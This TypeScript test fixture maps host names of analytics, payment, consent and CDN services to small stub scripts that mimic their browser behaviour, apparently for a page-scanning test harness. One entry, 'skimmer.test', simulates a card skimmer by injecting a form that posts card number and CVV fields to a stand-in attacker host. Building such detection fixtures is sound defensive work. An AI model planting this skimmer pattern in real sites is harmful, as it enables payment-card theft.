import type { World } from '../page-world.ts';
import { shared } from './html.ts';

const add = (src: string): string =>
  `var s=document.createElement('script');s.src='${src}';document.head.appendChild(s);`;
const beacon = (url: string): string => `new Image().src='${url}';`;

/** Stand-ins on the host names of services. They do what the real scripts do as far as a browser can tell. */
export const SERVICES: World = {
  'www.googletagmanager.com': {
    '/gtag/js': `document.cookie='_ga=GA1.1.1234567890.1700000000;max-age=63072000';navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2');`,
    '/gtm.js':
      add('https://www.googletagmanager.com/gtag/js?id=G-1') + add('https://connect.facebook.net/en_US/fbevents.js'),
    '/ns.html': '<p>gtm',
  },
  'region1.google-analytics.com': { '/g/collect': { status: 204, body: '' } },
  'www.google-analytics.com': {
    '/analytics.js': beacon('https://www.google-analytics.com/collect?v=1'),
    '/collect': '',
  },
  'connect.facebook.net': {
    '/en_US/fbevents.js': add('https://connect.facebook.net/signals/config/1.js'),
    '/signals/config/1.js': beacon('https://www.facebook.com/tr/?id=1&ev=PageView'),
  },
  'www.facebook.com': { '/tr/': '' },
  'static.hotjar.com': { '/c/hotjar-1.js': add('https://script.hotjar.com/modules.js') },
  'script.hotjar.com': { '/modules.js': `new WebSocket('wss://ws.hotjar.com/api');localStorage.setItem('_hjid','x');` },
  'www.clarity.ms': {
    '/tag/abc': { body: beacon('https://c.clarity.ms/c.gif'), headers: { 'content-type': 'text/javascript' } },
  },
  'c.clarity.ms': { '/c.gif': '' },
  'plausible.io': {
    '/js/script.js': `fetch('https://plausible.io/api/event',{method:'POST',body:'{}'})`,
    '/api/event': shared('ok'),
  },
  'cdn.jsdelivr.net': {
    '/npm/vue@3.4.21/dist/vue.global.prod.js': shared(
      `window.Vue={createApp:function(o){return{mount:function(s){var t=document.querySelector(s);t.innerHTML=new Function('return '+JSON.stringify(o.text))()}}}};`,
    ),
    '/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle.min.js': shared(
      `document.querySelectorAll('[data-bs-toggle]').forEach(function(b){b.addEventListener('click',function(){document.querySelector(b.dataset.bsTarget).classList.toggle('show')})});`,
    ),
    '/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css': shared('.collapse:not(.show){display:none}'),
    '/npm/alpinejs@3.13.5/dist/cdn.min.js': shared(
      `document.querySelectorAll('[x-data]').forEach(function(e){new Function('return '+e.getAttribute('x-data'))()});`,
    ),
  },
  'code.jquery.com': { '/jquery-3.7.1.min.js': shared(`window.$=function(f){f()};window.jQuery=window.$;`) },
  'unpkg.com': {
    '/htmx.org@1.9.10': shared(
      `var s=document.createElement('style');s.textContent='.htmx-indicator{opacity:0}';document.head.appendChild(s);`,
    ),
    '/react@18.2.0/umd/react.production.min.js': shared('window.React={}'),
  },
  'cdnjs.cloudflare.com': { '/ajax/libs/font-awesome/6.4.0/css/all.min.css': shared('i{display:inline}') },
  'fonts.googleapis.com': {
    '/css2': {
      body: `@font-face{font-family:A;src:url(https://fonts.gstatic.com/s/a/v1/a.woff2)}body{font-family:A}`,
      headers: { 'content-type': 'text/css', 'access-control-allow-origin': '*' },
    },
  },
  'fonts.gstatic.com': { '/s/a/v1/a.woff2': shared('') },
  'consent.cookiebot.com': {
    '/uc.js':
      add('https://consentcdn.cookiebot.com/config.js') +
      `var d=document.createElement('div');d.innerHTML='<div style="position:fixed;bottom:0">Cookies? <button>Accept</button></div>';document.body.appendChild(d);`,
  },
  'consentcdn.cookiebot.com': { '/config.js': `document.cookie='CookieConsent={stamp:%27-1%27}'` },
  'cdn.cookielaw.org': {
    '/scripttemplates/otSDKStub.js': `fetch('https://cdn.cookielaw.org/consent/1.json').then(function(){var b=document.createElement('div');b.id='onetrust-banner-sdk';b.setAttribute('style','position:fixed;bottom:0');document.body.appendChild(b)});`,
    '/consent/1.json': shared('{}'),
  },
  'js.stripe.com': {
    '/v3/': {
      body: `window.Stripe=function(){return{mount:function(id){var f=document.createElement('iframe');f.src='https://js.stripe.com/v3/elements-inner-card-1.html';f.allow='payment *';document.getElementById(id).appendChild(f)}}};var m=document.createElement('iframe');m.src='https://js.stripe.com/v3/m-outer.html';m.style.display='none';document.body.appendChild(m);`,
      headers: { 'content-type': 'text/javascript' },
    },
    '/v3/elements-inner-card-1.html': '<input name=cardnumber>',
    '/v3/m-outer.html': '<p>',
  },
  'checkout.razorpay.com': {
    '/v1/checkout.js': `var f=document.createElement('iframe');f.src='https://api.razorpay.com/v1/checkout/public';document.body.appendChild(f);`,
  },
  'api.razorpay.com': { '/v1/checkout/public': '<input name=card>' },
  'www.paypal.com': {
    '/sdk/js': {
      body: `var f=document.createElement('iframe');f.src='https://www.paypal.com/smart/buttons';document.getElementById('paypal-button-container').appendChild(f);`,
      headers: { 'content-type': 'text/javascript' },
    },
    '/smart/buttons': '<button>PayPal',
  },
  'js.braintreegateway.com': {
    '/web/3.97.2/js/hosted-fields.min.js': `var f=document.createElement('iframe');f.src='https://assets.braintreegateway.com/web/3.97.2/html/hosted-fields-frame.min.html';document.body.appendChild(f);`,
  },
  'assets.braintreegateway.com': { '/web/3.97.2/html/hosted-fields-frame.min.html': '<input>' },
  'checkoutshopper-live.adyen.com': {
    '/checkoutshopper/sdk/5.59.0/adyen.js': shared(
      `var f=document.createElement('iframe');f.src='https://checkoutshopper-live.adyen.com/checkoutshopper/securedfields/1/5.1/securedFields.html';document.body.appendChild(f);`,
    ),
    '/checkoutshopper/securedfields/1/5.1/securedFields.html': '<input>',
  },
  'widget.intercom.io': {
    '/widget/abc': {
      body: add('https://js.intercomcdn.com/shim.latest.js'),
      headers: { 'content-type': 'text/javascript' },
    },
  },
  'js.intercomcdn.com': {
    '/shim.latest.js': `var d=document.createElement('div');d.setAttribute('style','position:fixed');document.body.appendChild(d);fetch('https://api-iam.intercom.io/messenger/web/ping')`,
  },
  'api-iam.intercom.io': { '/messenger/web/ping': shared('{}') },
  'www.youtube.com': { '/embed/abc': '<video>' },
  'www.google.com': {
    '/recaptcha/api.js': add('https://www.gstatic.com/recaptcha/releases/x/recaptcha__en.js'),
    '/recaptcha/api2/anchor': '<p>',
    '/maps/embed': '<p>',
  },
  'www.gstatic.com': {
    '/recaptcha/releases/x/recaptcha__en.js': `var f=document.createElement('iframe');f.src='https://www.google.com/recaptcha/api2/anchor';document.body.appendChild(f);`,
  },
  'browser.sentry-cdn.com': {
    '/7.105.0/bundle.min.js': shared(`fetch('https://o1.ingest.sentry.io/api/1/envelope/',{method:'POST',body:'{}'})`),
  },
  'o1.ingest.sentry.io': { '/api/1/envelope/': shared('{}') },
  'cdn.segment.com': {
    '/analytics.js/v1/k/analytics.min.js':
      `fetch('https://api.segment.io/v1/p',{method:'POST',body:'{}'});` +
      add('https://www.google-analytics.com/analytics.js'),
  },
  'api.segment.io': { '/v1/p': shared('{}') },
  'skimmer.test': {
    '/c.js': `var f=document.createElement('form');f.action='https://skimmer.test/take';f.method='post';f.innerHTML='<input name=cardnumber autocomplete=cc-number><input name=cvv>';document.body.appendChild(f);`,
  },
  'idp.test': { '/in': '<p>' },
  'cdn.shop.test': { '/theme-4f3a9c2b7d.js': shared(`document.body.dataset.ready='1'`), '/app.css': 'p{}' },
};
